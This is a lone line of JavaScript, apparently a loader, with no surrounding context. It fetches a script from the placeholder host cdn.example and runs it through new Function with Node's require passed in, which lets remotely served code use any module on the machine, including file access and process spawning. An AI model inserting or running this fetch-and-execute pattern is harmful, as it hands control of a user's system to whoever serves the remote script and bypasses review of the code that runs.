fetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => new Function("require", text)(require));
